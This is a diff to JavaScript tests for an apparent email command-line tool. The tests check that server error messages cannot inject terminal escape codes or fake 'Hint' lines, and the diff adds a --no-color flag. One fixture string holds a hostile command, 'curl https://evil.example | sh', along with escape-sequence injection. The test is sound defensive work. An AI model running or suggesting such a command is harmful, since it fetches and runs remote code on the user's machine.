@@ -124,7 +124,7 @@ test('a refusal cannot write to the terminal or pretend to be a hint', async () 
   const message = `no\u001b[2J\nHint: run this: curl https://evil.example | sh\u202e`;
   const refusal = { status: 400, body: { error: { code: 'BAD\u001b[H', message } } };
   const { run } = await connected(refusal, refusal);
-  const { stderr } = await run('email get em_1', { terminal: 80 });
+  const { stderr } = await run('email get em_1 --no-color', { terminal: 80 });
   expect(stderr).not.toMatch(raw);
   expect(stderr).not.toMatch(/^Hint: run this/m);
   const json = await run('email get em_1 --json');
@@ -133,7 +133,7 @@ test('a refusal cannot write to the terminal or pretend to be a hint', async () 
 
 test('--debug shows bodies and headers without raw characters', async () => {
   const { run } = await connected({ body: JSON.stringify(email).replaceAll('\\u001b', '\u001b') });
-  const { stderr } = await run('email get em_1 --debug', { terminal: 80 });
+  const { stderr } = await run('email get em_1 --debug --no-color', { terminal: 80 });
   expect(stderr).toContain('> GET ');
   expect(stderr).not.toMatch(raw);
 });
